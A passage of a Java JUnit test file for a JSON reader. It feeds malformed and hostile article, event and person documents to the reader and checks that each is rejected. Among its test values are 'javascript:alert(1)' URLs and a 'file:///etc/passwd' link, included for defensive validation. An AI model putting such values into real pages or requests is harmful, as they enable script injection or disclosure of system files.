package dev.masthead.jackson;

import dev.masthead.model.ContentReadException;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.assertj.core.api.Assertions.tuple;

import dev.masthead.fixtures.SeedCorpus;
import dev.masthead.model.Article;
import dev.masthead.model.ArticleSummary;
import dev.masthead.model.Block;
import dev.masthead.model.Event;
import dev.masthead.model.Organisation;
import dev.masthead.model.Paragraph;
import dev.masthead.model.Person;
import dev.masthead.model.Place;
import dev.masthead.model.Publication;
import dev.masthead.model.RawJson;
import dev.masthead.model.ReadLimits;
import dev.masthead.model.Tag;
import dev.masthead.model.UnknownBlock;
import dev.masthead.model.Violation;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.Stream;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Malformed and hostile documents: each must be rejected with exactly one exception type, {@link
 * ContentReadException}, whose first violation names the offending value by its JSON Pointer and
 * the rule it broke, through every entry point of {@link MastheadJson}, without echoing the input.
 */
final class HostileInputTest {
  private static final MastheadJson JSON = MastheadJson.defaults();

  /** The seed article, compact, as {@link MastheadJson} writes it. */
  private static final String SEED = JSON.write(SeedCorpus.article());

  private static final String TOKYO_VISIT = JSON.write(SeedCorpus.tokyoVisit());
  private static final String FIRESIDE_CHAT = JSON.write(SeedCorpus.firesideChat());
  private static final String IMAMURA = JSON.write(SeedCorpus.akiraImamura());
  private static final String PUBLICATION = JSON.write(SeedCorpus.publication());
  private static final String REGION = JSON.write(SeedCorpus.places().get(0));
  private static final String THE_REGION = JSON.write(SeedCorpus.organisations().get(0));
  private static final String TEASER = JSON.write(SeedCorpus.relatedTeasers().get(0));

  /** A valid article with only the required properties, to add one hostile property to. */
  private static final String MINIMAL = "{\"id\":\"a\",\"slug\":\"a\",\"headline\":\"h\","
      + "\"published\":\"2025-12-25T08:00:00Z\",\"language\":\"en\"";

  private static final String ID_RULE = "lower-case letters and digits";
  private static final String TERM_RULE = "lower-case words";
  private static final String INSTANT_RULE = "RFC 3339 date-time";
  private static final String EVENT_TIME_RULE = "ISO 8601 year, month, date, or date-time";
  private static final String NAME_RULE = "extension name must not be blank, nor contain";

  /** Set if anything initialises or builds {@link Tripwire}, a class named by documents. */
  private static final AtomicBoolean TRIPPED = new AtomicBoolean();

  /** A class that hostile documents name; reading must never initialise or build it. */
  static final class Tripwire {
    static {
      TRIPPED.set(true);
    }

    Tripwire() {
      TRIPPED.set(true);
    }
  }

  private static final String TRIPWIRE = "dev.masthead.jackson.HostileInputTest$Tripwire";

  /** Built once: some documents are megabytes long. */
  private static final List<Arguments> CORPUS = buildCorpus();

  /**
   * One hostile document: the model type it is read as, its bytes, and whether it is also fed
   * to {@link MastheadJson#read(String, Class)} (not when the point is its encoding).
   */
  record Hostile(Class<?> type, byte[] bytes, boolean textual) {
    String text() {
      return new String(bytes, UTF_8);
    }

    @Override
    public String toString() {
      return type.getSimpleName() + ", " + bytes.length + " bytes";
    }
  }

  private static Hostile text(Class<?> type, String json) {
    return new Hostile(type, json.getBytes(UTF_8), true);
  }

  private static Hostile bytes(Class<?> type, byte[] json) {
    return new Hostile(type, json, false);
  }

  private static Arguments hostile(String name, Hostile doc, String pointer, String rule) {
    return Arguments.of(name, doc, pointer, rule);
  }

  private static Arguments article(String name, String json, String pointer, String rule) {
    return hostile(name, text(Article.class, json), pointer, rule);
  }

  /** {@code json} with the first {@code target} replaced; the target must be there. */
  private static String replaced(String json, String target, String replacement) {
    int at = json.indexOf(target);
    if (at < 0) {
      throw new IllegalArgumentException("not in the document: " + target);
    }
    return json.substring(0, at) + replacement + json.substring(at + target.length());
  }

  /** The seed article with the first {@code target} replaced. */
  private static String seed(String target, String replacement) {
    return replaced(SEED, target, replacement);
  }

  /** The seed article with {@code property} ({@code "name":value}) as its first property. */
  private static String seedWith(String property) {
    return "{" + property + "," + SEED.substring(1);
  }

  /** The seed article cut right after the first {@code marker}. */
  private static String seedCutAfter(String marker) {
    int at = SEED.indexOf(marker);
    if (at < 0) {
      throw new IllegalArgumentException("not in the document: " + marker);
    }
    return SEED.substring(0, at + marker.length());
  }

  /** The minimal article with a body of the one {@code block}. */
  private static String withBlock(String block) {
    return MINIMAL + ",\"body\":[" + block + "]}";
  }

  private static String heading(String level) {
    return withBlock("{\"type\":\"heading\",\"text\":\"Background\",\"level\":" + level + "}");
  }

  /** The seed article with {@code replacement} bytes in place of the first {@code marker}. */
  private static byte[] seedBytes(String marker, int... replacement) {
    byte[] seed = SEED.getBytes(UTF_8);
    byte[] target = marker.getBytes(UTF_8);
    int at = indexOf(seed, target);
    if (at < 0) {
      throw new IllegalArgumentException("not in the document: " + marker);
    }
    byte[] out = new byte[seed.length - target.length + replacement.length];
    System.arraycopy(seed, 0, out, 0, at);
    for (int i = 0; i < replacement.length; i++) {
      out[at + i] = (byte) replacement[i];
    }
    System.arraycopy(seed, at + target.length, out, at + replacement.length,
        seed.length - at - target.length);
    return out;
  }

  private static int indexOf(byte[] in, byte[] target) {
    outer:
    for (int i = 0; i + target.length <= in.length; i++) {
      for (int j = 0; j < target.length; j++) {
        if (in[i + j] != target[j]) {
          continue outer;
        }
      }
      return i;
    }
    return -1;
  }

  private static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }

  private static byte[] encoded(String json, String charset) {
    return json.getBytes(Charset.forName(charset));
  }

  private static String nested(String open, String close, int depth) {
    return open.repeat(depth) + close.repeat(depth);
  }

  static Stream<Arguments> corpus() {
    return CORPUS.stream();
  }

  private static List<Arguments> buildCorpus() {
    List<Arguments> all = new ArrayList<>();
    all.addAll(truncations());
    all.addAll(wrongTypes());
    all.addAll(nulls());
    all.addAll(badTimes());
    all.addAll(badIdsAndVocabulary());
    all.addAll(badUrlsAndEmails());
    all.addAll(duplicates());
    all.addAll(trailing());
    all.addAll(encodings());
    all.addAll(deepNesting());
    all.addAll(hugeValues());
    all.addAll(badNames());
    all.addAll(classNamesAndBlockTypes());
    all.addAll(notAnObject());
    return List.copyOf(all);
  }

  private static List<Arguments> truncations() {
    String end = "must be complete JSON: the input ends inside a value";
    return List.of(
        article("cut after the opening brace", seedCutAfter("{"), "", end),
        article("cut inside the first name", seedCutAfter("{\"i"), "", end),
        article("cut after the first name", seedCutAfter("{\"id\""), "/id", end),
        article("cut after the first colon", seedCutAfter("{\"id\":"), "/id", end),
        article("cut inside the id", seedCutAfter("{\"id\":\"japans-long"), "/id", end),
        article("cut after a comma at the root",
            seedCutAfter("\"slug\":\"japans-long-term-vision-for-the-western-balkans\","), "",
            end),
        article("cut inside the headline", seedCutAfter("\"headline\":\"Japan"), "/headline",
            end),
        article("cut inside the standfirst",
            seedCutAfter("\"standfirst\":\"Ambassador Akira Imamura"), "/standfirst", end),
        article("cut after the body's bracket", seedCutAfter("\"body\":["), "/body/0", end),
        article("cut after a block's brace", seedCutAfter("\"body\":[{"), "/body/0", end),
        article("cut after a block's type name", seedCutAfter("\"body\":[{\"type\""),
            "/body/0/type", end),
        article("cut inside a block's type", seedCutAfter("\"body\":[{\"type\":\"para"),
            "/body/0/type", end),
        article("cut inside a span's text",
            seedCutAfter("\"content\":[{\"text\":\"The fireside"), "/body/0/content/0/text", end),
        article("cut after a span",
            seedCutAfter("\"content\":[{\"text\":\"The fireside chat \"}"),
            "/body/0/content/1", end),
        article("cut after a span and its comma",
            seedCutAfter("\"content\":[{\"text\":\"The fireside chat \"},"),
            "/body/0/content/1", end),
        article("cut inside a mark", seedCutAfter("\"marks\":[\"emph"),
            "/body/0/content/1/marks/0", end),
        article("cut after a span's marks", seedCutAfter("\"marks\":[\"emphasis\"]"),
            "/body/0/content/1", end),
        article("cut inside an image URL",
            seedCutAfter("\"url\":\"https://connectingregion.com/images/akira"),
            "/body/2/image/url", end),
        article("cut inside a caption",
            seedCutAfter("\"caption\":\"Akira Imamura, Ambassador"), "/body/2/image/caption",
            end),
        article("cut after the first depicted person",
            seedCutAfter("\"depicted\":[\"akira-imamura\""), "/body/2/image/depicted/1", end),
        article("cut inside a quote", seedCutAfter("\"text\":\"European stability"),
            "/body/4/text", end),
        article("cut after a quote's speaker", seedCutAfter("\"speaker\":\"akira-imamura\""),
            "/body/4", end),
        article("cut after a link block's kind", seedCutAfter("\"kind\":\"gallery\""),
            "/body/12", end),
        article("cut after a call to action's kind name",
            seedCutAfter("\"type\":\"call-to-action\",\"kind\""), "/body/13/kind", end),
        article("cut inside an e-mail address", seedCutAfter("\"email\":\"info@"),
            "/body/13/email", end),
        article("cut inside the published instant",
            seedCutAfter("\"published\":\"2025-12-25T08"), "/published", end),
        article("cut after the published instant",
            seedCutAfter("\"published\":\"2025-12-25T08:00:00Z\""), "", end),
        article("cut after the language", seedCutAfter("\"language\":\"en\""), "", end),
        article("cut after the tags' bracket", seedCutAfter("\"tags\":["), "/tags/0", end),
        article("cut inside the first tag",
            seedCutAfter("\"tags\":[{\"id\":\"japan\",\"kind\":\"place\""), "/tags/0", end),
        article("cut after the first tag", seedCutAfter("\"entity\":\"japan\"}"), "/tags/1",
            end),
        article("cut after the lead image's url name", seedCutAfter("\"leadImage\":{\"url\""),
            "/leadImage/url", end),
        article("cut inside the canonical URL", seedCutAfter("\"canonicalUrl\":\"https:"),
            "/canonicalUrl", end),
        article("cut after the first related article",
            seedCutAfter("\"related\":[\"north-macedonia-high-tech-investments\""),
            "/related/1", end),
        article("cut after the first related article's comma",
            seedCutAfter("\"related\":[\"north-macedonia-high-tech-investments\","),
            "/related/1", end),
        article("cut before the last brace", SEED.substring(0, SEED.length() - 1), "", end),
        // Bytes that end inside a character are not UTF-8: Masthead finds that itself, as
        // Jackson versions call it different things.
        hostile("cut inside a multi-byte character of the headline",
            bytes(Article.class, Arrays.copyOf(SEED.getBytes(UTF_8),
                indexOf(SEED.getBytes(UTF_8), "’s Long".getBytes(UTF_8)) + 2)),
            "/headline", "must be UTF-8"));
  }

  private static List<Arguments> wrongTypes() {
    String image = "\"altText\":\"Akira Imamura\"";
    return List.of(
        article("number where the id string belongs", seed("\"id\":\"japans-long-term-vision-"
            + "western-balkans\"", "\"id\":42"), "/id", "must be a string, is a number"),
        article("boolean where the slug belongs",
            seed("\"slug\":\"japans-long-term-vision-for-the-western-balkans\"", "\"slug\":true"),
            "/slug", "must be a string, is a boolean"),
        article("object where the headline belongs",
            seed("\"headline\":\"Japan’s Long-Term Vision for the Western Balkans\"",
                "\"headline\":{\"text\":\"Japan\"}"),
            "/headline", "must be a string, is an object"),
        article("array where the standfirst belongs", MINIMAL + ",\"standfirst\":[\"a\"]}",
            "/standfirst", "must be a string, is an array"),
        article("number where the published instant belongs",
            seed("\"published\":\"2025-12-25T08:00:00Z\"", "\"published\":1766649600"),
            "/published", "must be a string, is a number"),
        article("boolean where the language belongs",
            seed("\"language\":\"en\"", "\"language\":false"), "/language",
            "must be a string, is a boolean"),
        article("object where the body array belongs",
            MINIMAL + ",\"body\":{\"type\":\"paragraph\"}}", "/body",
            "must be an array, is an object"),
        article("string where the body array belongs", MINIMAL + ",\"body\":\"paragraph\"}",
            "/body", "must be an array, is a string"),
        article("one tag object where the tags array belongs",
            MINIMAL + ",\"tags\":{\"id\":\"japan\",\"kind\":\"place\",\"label\":\"Japan\"}}",
            "/tags", "must be an array, is an object"),
        article("one id string where the related array belongs",
            MINIMAL + ",\"related\":\"the-year-tech-became-the-system\"}", "/related",
            "must be an array, is a string"),
        article("string where the lead image object belongs",
            MINIMAL + ",\"leadImage\":\"https://connectingregion.com/a.jpg\"}", "/leadImage",
            "must be an object, is a string"),
        article("array where the lead image object belongs",
            MINIMAL + ",\"leadImage\":[{\"url\":\"https://connectingregion.com/a.jpg\"}]}",
            "/leadImage", "must be an object, is an array"),
        article("number where the lead image object belongs", MINIMAL + ",\"leadImage\":7}",
            "/leadImage", "must be an object, is a number"),
        article("string where a block object belongs", withBlock("\"a paragraph\""), "/body/0",
            "must be an object, is a string"),
        article("array where a block object belongs", withBlock("[\"paragraph\"]"), "/body/0",
            "must be an object, is an array"),
        article("object where a paragraph's content array belongs",
            withBlock("{\"type\":\"paragraph\",\"content\":{\"text\":\"x\"}}"),
            "/body/0/content", "must be an array, is an object"),
        article("number where a span's text belongs",
            seed("{\"text\":\"The fireside chat \"}", "{\"text\":12}"), "/body/0/content/0/text",
            "must be a string, is a number"),
        article("string where a span's marks array belongs",
            seed("\"marks\":[\"emphasis\"]", "\"marks\":\"emphasis\""),
            "/body/0/content/1/marks", "must be an array, is a string"),
        article("string where an image width belongs",
            seed(image, image + ",\"width\":\"800\""), "/body/2/image/width",
            "must be an integer, is a string"),
        article("float where an image width belongs",
            seed(image, image + ",\"width\":800.5"), "/body/2/image/width",
            "must be a whole number"),
        article("int overflow for an image height",
            seed(image, image + ",\"height\":2147483648"), "/body/2/image/height",
            "must be an integer from -2147483648 to 2147483647"),
        article("int overflow 2147483648 for a heading level", heading("2147483648"),
            "/body/0/level", "must be an integer from -2147483648 to 2147483647"),
        article("int underflow for a heading level", heading("-2147483649"), "/body/0/level",
            "must be an integer from"),
        article("float for a heading level", heading("2.5"), "/body/0/level",
            "must be a whole number"),
        article("small exponent for a heading level", heading("25e-1"), "/body/0/level",
            "must be a whole number"),
        article("huge exponent for a heading level", heading("1e999999"), "/body/0/level",
            "must be an integer from -2147483648 to 2147483647"),
        article("exponent out of range for a heading level", heading("1e9999999999"),
            "/body/0/level", "must be an integer from -2147483648 to 2147483647"),
        article("string for a heading level", heading("\"3\""), "/body/0/level",
            "must be an integer, is a string"),
        article("boolean for a heading level", heading("true"), "/body/0/level",
            "must be an integer, is a boolean"),
        article("number where a tag kind belongs", seed("\"kind\":\"place\"", "\"kind\":1"),
            "/tags/0/kind", "must be a string, is a number"),
        article("object where a quote's speaker id belongs",
            seed("\"speaker\":\"akira-imamura\"", "\"speaker\":{\"id\":\"akira-imamura\"}"),
            "/body/4/speaker", "must be a string, is an object"),
        article("number in the related ids",
            seed("\"related\":[", "\"related\":[17,"), "/related/0",
            "must be a string, is a number"),
        article("string where a contributor object belongs",
            MINIMAL + ",\"byline\":[\"Jane Doe\"]}", "/byline/0",
            "must be an object, is a string"),
        hostile("object where an event's participants array belongs",
            text(Event.class, replaced(FIRESIDE_CHAT, "\"participants\":[",
                "\"participants\":{},\"acme:people\":[")),
            "/participants", "must be an array, is an object"),
        hostile("string where a participant's position belongs",
            text(Event.class, replaced(FIRESIDE_CHAT,
                "\"position\":{\"title\":\"Ambassador of Japan\",\"organisation\":"
                    + "\"embassy-of-japan-in-serbia\",\"jurisdiction\":\"serbia\"}",
                "\"position\":\"Ambassador of Japan\"")),
            "/participants/0/position", "must be an object, is a string"),
        hostile("string where a person's name object belongs",
            text(Person.class, replaced(IMAMURA,
                "\"name\":{\"given\":\"Akira\",\"family\":\"Imamura\",\"order\":\"given-first\"}",
                "\"name\":\"Akira Imamura\"")),
            "/name", "must be an object, is a string"),
        hostile("number where an event start belongs",
            text(Event.class, replaced(TOKYO_VISIT, "\"start\":\"2025-09\"", "\"start\":2025")),
            "/start", "must be a string, is a number"),
        hostile("array where an event kind belongs",
            text(Event.class, replaced(TOKYO_VISIT, "\"kind\":\"visit\"",
                "\"kind\":[\"visit\"]")),
            "/kind", "must be a string, is an array"),
        hostile("string where a place's containedIn array belongs",
            text(Place.class, replaced(REGION, "}", ",\"containedIn\":\"europe\"}")),
            "/containedIn", "must be an array, is a string"),
        hostile("number where a publication URL belongs",
            text(Publication.class, replaced(PUBLICATION,
                "\"url\":\"https://connectingregion.com/\"", "\"url\":443")),
            "/url", "must be a string, is a number"));
  }

  private static List<Arguments> nulls() {
    String required = "is required";
    return List.of(
        article("null id", seed("\"id\":\"japans-long-term-vision-western-balkans\"",
            "\"id\":null"), "/id", required),
        article("null headline",
            seed("\"headline\":\"Japan’s Long-Term Vision for the Western Balkans\"",
                "\"headline\":null"), "/headline", required),
        article("null published instant",
            seed("\"published\":\"2025-12-25T08:00:00Z\"", "\"published\":null"), "/published",
            required),
        article("null language", seed("\"language\":\"en\"", "\"language\":null"),
            "/language", required),
        article("null block in the body", seed("\"body\":[", "\"body\":[null,"), "/body/0",
            "must not be null"),
        article("null tag", seed("\"tags\":[", "\"tags\":[null,"), "/tags/0",
            "must not be null"),
        article("null related id", seed("\"related\":[", "\"related\":[null,"), "/related/0",
            "must not be null"),
        article("null mark", seed("\"marks\":[\"emphasis\"]", "\"marks\":[\"emphasis\",null]"),
            "/body/0/content/1/marks/1", "must not be null"),
        article("null span text", seed("{\"text\":\"The fireside chat \"}", "{\"text\":null}"),
            "/body/0/content/0/text", required),
        article("null tag label", seed("\"label\":\"Japan\"", "\"label\":null"),
            "/tags/0/label", required),
        article("null lead image URL",
            seed("\"leadImage\":{\"url\":\"https://connectingregion.com/images/akira-imamura.jpg\"",
                "\"leadImage\":{\"url\":null"), "/leadImage/url", required),
        article("null block type", withBlock("{\"type\":null}"), "/body/0/type",
            "must be a string, is null"),
        article("null paragraph content",
            withBlock("{\"type\":\"paragraph\",\"content\":null}"), "/body/0/content",
            "must have at least one span"),
        hostile("null event id",
            text(Event.class, replaced(TOKYO_VISIT, "\"id\":\"serbian-delegation-tokyo-2025-09\"",
                "\"id\":null")), "/id", required),
        hostile("null person name",
            text(Person.class, replaced(IMAMURA,
                "\"name\":{\"given\":\"Akira\",\"family\":\"Imamura\",\"order\":\"given-first\"}",
                "\"name\":null")), "/name", required),
        hostile("null publication name",
            text(Publication.class, replaced(PUBLICATION, "\"name\":\"The Region\"",
                "\"name\":null")), "/name", required),
        hostile("null participant in an event",
            text(Event.class, replaced(FIRESIDE_CHAT, "\"participants\":[",
                "\"participants\":[null,")), "/participants/0", "must not be null"));
  }

  private static List<Arguments> badTimes() {
    String published = "\"published\":\"2025-12-25T08:00:00Z\"";
    String title = "\"title\":\"Ambassador of Japan\"";
    String start = "\"start\":\"2025-09\"";
    return List.of(
        article("month 13 in the published instant",
            seed(published, "\"published\":\"2025-13-01T08:00:00Z\""), "/published",
            INSTANT_RULE),
        article("30 February in the published instant",
            seed(published, "\"published\":\"2025-02-30T08:00:00Z\""), "/published",
            INSTANT_RULE),
        article("yesterday as the published instant",
            seed(published, "\"published\":\"yesterday\""), "/published", INSTANT_RULE),
        article("+202 as the published instant", seed(published, "\"published\":\"+202\""),
            "/published", INSTANT_RULE),
        article("a date without time as the published instant",
            seed(published, "\"published\":\"2025-12-25\""), "/published", INSTANT_RULE),
        article("hour 25 in the updated instant",
            seed(published, published + ",\"updated\":\"2025-12-25T25:00:00Z\""), "/updated",
            INSTANT_RULE),
        hostile("month 13 in a position start", text(Person.class,
            replaced(IMAMURA, title, title + ",\"start\":\"2025-13-01\"")),
            "/positions/0/start", "ISO 8601 date"),
        hostile("30 February in a position end", text(Person.class,
            replaced(IMAMURA, title, title + ",\"end\":\"2025-02-30\"")),
            "/positions/0/end", "ISO 8601 date"),
        hostile("yesterday as a position start", text(Person.class,
            replaced(IMAMURA, title, title + ",\"start\":\"yesterday\"")),
            "/positions/0/start", "ISO 8601 date"),
        hostile("+202 as a position start", text(Person.class,
            replaced(IMAMURA, title, title + ",\"start\":\"+202\"")),
            "/positions/0/start", "ISO 8601 date"),
        hostile("month 13 in an event start", text(Event.class,
            replaced(TOKYO_VISIT, start, "\"start\":\"2025-13-01\"")), "/start",
            "must be a real date and time"),
        hostile("30 February in an event start", text(Event.class,
            replaced(TOKYO_VISIT, start, "\"start\":\"2025-02-30\"")), "/start",
            "must be a real date and time"),
        hostile("yesterday as an event start", text(Event.class,
            replaced(TOKYO_VISIT, start, "\"start\":\"yesterday\"")), "/start",
            EVENT_TIME_RULE),
        hostile("+202 as an event start", text(Event.class,
            replaced(TOKYO_VISIT, start, "\"start\":\"+202\"")), "/start", EVENT_TIME_RULE),
        hostile("month 13 as an event end", text(Event.class,
            replaced(TOKYO_VISIT, start, start + ",\"end\":\"2025-13\"")), "/end",
            "must be a real date and time"),
        hostile("an event start without its offset", text(Event.class,
            replaced(TOKYO_VISIT, start, "\"start\":\"2025-11-20T10:00\"")), "/start",
            EVENT_TIME_RULE),
        hostile("year 0 as an event start", text(Event.class,
            replaced(TOKYO_VISIT, start, "\"start\":\"0000\"")), "/start",
            "must be in a year from 1 to 9999"),
        hostile("empty event start", text(Event.class,
            replaced(TOKYO_VISIT, start, "\"start\":\"\"")), "/start", EVENT_TIME_RULE),
        hostile("unknown time zone", text(Publication.class,
            replaced(PUBLICATION, "\"timeZone\":\"Europe/Belgrade\"",
                "\"timeZone\":\"Mars/Olympus_Mons\"")), "/timeZone", "time zone the tz database knows"));
  }

  private static List<Arguments> badIdsAndVocabulary() {
    String id = "\"id\":\"japans-long-term-vision-western-balkans\"";
    String tooLong = "a".repeat(129);
    return List.of(
        article("upper-case article id", seed(id, "\"id\":\"Japans-Vision\""), "/id", ID_RULE),
        article("article id with a space", seed(id, "\"id\":\"japans vision\""), "/id",
            ID_RULE),
        article("article id of 129 characters", seed(id, "\"id\":\"" + tooLong + "\""), "/id",
            "at most 128 characters"),
        article("empty article id", seed(id, "\"id\":\"\""), "/id", ID_RULE),
        article("upper-case tag id", seed("{\"id\":\"japan\"", "{\"id\":\"JAPAN\""),
            "/tags/0/id", ID_RULE),
        article("upper-case tag kind", seed("\"kind\":\"place\"", "\"kind\":\"PLACE\""),
            "/tags/0/kind", TERM_RULE),
        article("tag kind with a space", seed("\"kind\":\"place\"", "\"kind\":\"pla ce\""),
            "/tags/0/kind", TERM_RULE),
        article("tag kind of 65 characters",
            seed("\"kind\":\"place\"", "\"kind\":\"" + "p".repeat(65) + "\""), "/tags/0/kind",
            "at most 64 characters"),
        article("related id with a space",
            seed("\"online-tool-learning-slovenian\"", "\"online tool\""), "/related/2", ID_RULE),
        article("upper-case event id in the article",
            seed("\"events\":[\"western-balkans-2030\"", "\"events\":[\"WB-2030\""), "/events/0",
            ID_RULE),
        article("upper-case depicted person id",
            seed("\"depicted\":[\"akira-imamura\"]", "\"depicted\":[\"Akira-Imamura\"]"),
            "/body/2/image/depicted/0", ID_RULE),
        article("quote speaker id with a space",
            seed("\"speaker\":\"akira-imamura\"", "\"speaker\":\"akira imamura\""),
            "/body/4/speaker", ID_RULE),
        article("upper-case mark", seed("\"marks\":[\"emphasis\"]", "\"marks\":[\"EMPHASIS\"]"),
            "/body/0/content/1/marks/0", TERM_RULE),
        article("upper-case link kind", seed("\"kind\":\"gallery\"", "\"kind\":\"GALLERY\""),
            "/body/12/kind", TERM_RULE),
        article("call-to-action kind with a space",
            seed("\"kind\":\"news-tip\"", "\"kind\":\"news tip\""), "/body/13/kind", TERM_RULE),
        article("contributor role of 65 characters",
            MINIMAL + ",\"byline\":[{\"name\":\"Jane Doe\",\"role\":\"" + "r".repeat(65)
                + "\"}]}", "/byline/0/role", "at most 64 characters"),
        article("upper-case tag entity for a place tag",
            seed("\"entity\":\"japan\"", "\"entity\":\"Japan\""), "/tags/0/entity", ID_RULE),
        article("entity on a topic tag",
            seed("\"label\":\"Investment\"", "\"label\":\"Investment\",\"entity\":\"investment\""),
            "/tags/9/entity", "only a tag of kind person, organisation, place or event"),
        article("upper-case slug", seed("\"slug\":\"japans-", "\"slug\":\"Japans-"), "/slug",
            "must be a slug"),
        article("language that is no ISO 639 code",
            seed("\"language\":\"en\"", "\"language\":\"english\""), "/language", "ISO 639"),
        article("ill-formed language tag", seed("\"language\":\"en\"", "\"language\":\"e\""),
            "/language", "well-formed BCP 47"),
        hostile("upper-case event kind", text(Event.class,
            replaced(TOKYO_VISIT, "\"kind\":\"visit\"", "\"kind\":\"Visit\"")), "/kind",
            TERM_RULE),
        hostile("participant role with a space", text(Event.class,
            replaced(FIRESIDE_CHAT, "\"role\":\"co-lead\"", "\"role\":\"co lead\"")),
            "/participants/0/role", TERM_RULE),
        hostile("upper-case organisation role", text(Event.class,
            replaced(TOKYO_VISIT, "\"role\":\"participant\"", "\"role\":\"PARTICIPANT\"")),
            "/organisations/0/role", TERM_RULE),
        hostile("upper-case place kind", text(Place.class,
            replaced(REGION, "\"kind\":\"region\"", "\"kind\":\"Region\"")), "/kind", TERM_RULE),
        hostile("organisation kind of 65 characters", text(Organisation.class,
            replaced(THE_REGION, "\"kind\":\"media\"", "\"kind\":\"" + "m".repeat(65) + "\"")),
            "/kind", "at most 64 characters"),
        hostile("unknown name order", text(Person.class,
            replaced(IMAMURA, "\"order\":\"given-first\"", "\"order\":\"last-first\"")),
            "/name/order", "\"given-first\" or \"family-first\""),
        hostile("upper-case teaser id", text(ArticleSummary.class,
            replaced(TEASER, "\"id\":\"north-macedonia", "\"id\":\"North-macedonia")), "/id",
            ID_RULE));
  }

  private static List<Arguments> badUrlsAndEmails() {
    String canonical = "\"canonicalUrl\":\"https://connectingregion.com/japans-long-term-vision-"
        + "for-the-western-balkans/\"";
    String http = "absolute http or https URL";
    return List.of(
        article("javascript: URL", seed(canonical, "\"canonicalUrl\":\"javascript:alert(1)\""),
            "/canonicalUrl", http),
        article("URL with spaces", seed(canonical, "\"canonicalUrl\":\"not a url\""),
            "/canonicalUrl", http),
        article("relative URL", seed(canonical, "\"canonicalUrl\":\"/relative/path\""),
            "/canonicalUrl", http),
        article("URL without a host", seed(canonical, "\"canonicalUrl\":\"http:///no-host\""),
            "/canonicalUrl", "with a host name"),
        article("ftp URL", seed(canonical,
            "\"canonicalUrl\":\"ftp://connectingregion.com/a\""), "/canonicalUrl", http),
        article("URL of 2049 characters", seed(canonical, "\"canonicalUrl\":\"https://"
            + "connectingregion.com/" + "a".repeat(2049 - 29) + "\""), "/canonicalUrl",
            "at most 2048 characters"),
        article("lead image URL with a space in the host",
            seed("\"leadImage\":{\"url\":\"https://connectingregion.com/",
                "\"leadImage\":{\"url\":\"https://connecting region.com/"),
            "/leadImage/url", "with a host name"),
        article("file URL in a link block",
            seed("\"url\":\"https://connectingregion.com/gallery/western-balkans-2030/\"",
                "\"url\":\"file:///etc/passwd\""), "/body/12/url", http),
        article("e-mail address without an at sign",
            seed("\"email\":\"info@connectingregion.com\"",
                "\"email\":\"info-at-connectingregion.com\""), "/body/13/email", "e-mail address"),
        article("e-mail address without a top-level domain",
            seed("\"email\":\"info@connectingregion.com\"", "\"email\":\"info@localhost\""),
            "/body/13/email", "e-mail address"),
        article("e-mail address with a space",
            seed("\"email\":\"info@connectingregion.com\"", "\"email\":\"in fo@example.com\""),
            "/body/13/email", "e-mail address"),
        hostile("tips e-mail address without a local part", text(Publication.class,
            replaced(PUBLICATION, "\"tipsEmail\":\"info@connectingregion.com\"",
                "\"tipsEmail\":\"@connectingregion.com\"")), "/tipsEmail", "e-mail address"),
        hostile("mailto URL as a publication URL", text(Publication.class,
            replaced(PUBLICATION, "\"url\":\"https://connectingregion.com/\"",
                "\"url\":\"mailto:info@connectingregion.com\"")), "/url", http),
        hostile("sameAs that is no URL", text(Person.class,
            replaced(IMAMURA, "\"honorificPrefix\":\"H.E.\"",
                "\"honorificPrefix\":\"H.E.\",\"sameAs\":[\"not a url\"]")), "/sameAs/0",
            http),
        hostile("javascript: URL as an event gallery", text(Event.class,
            replaced(TOKYO_VISIT, "\"place\":\"tokyo\"",
                "\"place\":\"tokyo\",\"gallery\":\"javascript:void(0)\"")), "/gallery", http));
  }

  private static List<Arguments> duplicates() {
    // The codecs find a repeated property themselves and name it by its own pointer; inside a
    // raw extension value, the model's RawJson check finds it.
    String dup = "must not appear twice in an object";
    return List.of(
        article("duplicate known property at the root", seedWith("\"id\":\"other-article\""),
            "/id", dup),
        article("duplicate known property after a null", "{\"headline\":null,"
            + SEED.substring(1), "/headline", dup),
        article("duplicate unknown property at the root",
            seedWith("\"acme:x\":1,\"acme:x\":2"), "/acme:x", dup),
        article("duplicate known property in a tag",
            seed("{\"id\":\"japan\",", "{\"id\":\"japan\",\"id\":\"japan\","), "/tags/0/id",
            dup),
        article("duplicate unknown property in a tag",
            seed("{\"id\":\"japan\",", "{\"id\":\"japan\",\"acme:x\":1,\"acme:x\":1,"),
            "/tags/0/acme:x", dup),
        article("duplicate content in a paragraph",
            withBlock("{\"type\":\"paragraph\",\"content\":[{\"text\":\"a\"}],"
                + "\"content\":[{\"text\":\"b\"}]}"), "/body/0/content", dup),
        article("duplicate type in a block",
            withBlock("{\"type\":\"paragraph\",\"type\":\"heading\",\"text\":\"x\"}"),
            "/body/0/type", dup),
        article("duplicate type in a block of a type this version does not know",
            withBlock("{\"type\":\"acme:gallery\",\"type\":\"acme:map\"}"), "/body/0/type",
            dup),
        article("duplicate type in a block of an unknown type that comes later",
            withBlock("{\"acme:x\":1,\"type\":\"acme:gallery\",\"type\":\"acme:map\"}"),
            "/body/0/type", dup),
        article("duplicate property in a block whose type comes later",
            withBlock("{\"content\":[{\"text\":\"a\"}],\"content\":[],\"type\":\"paragraph\"}"),
            "/body/0/content", dup),
        article("duplicate property in the lead image",
            seed("\"leadImage\":{", "\"leadImage\":{\"altText\":\"x\","), "/leadImage/altText",
            dup),
        article("duplicate name inside an extension value",
            seedWith("\"acme:x\":{\"a\":1,\"a\":2}"), "/acme:x", "duplicate property name"),
        hostile("duplicate property in an event's participant", text(Event.class,
            replaced(FIRESIDE_CHAT, "{\"person\":\"akira-imamura\",",
                "{\"person\":\"akira-imamura\",\"person\":\"oliver-lepori\",")),
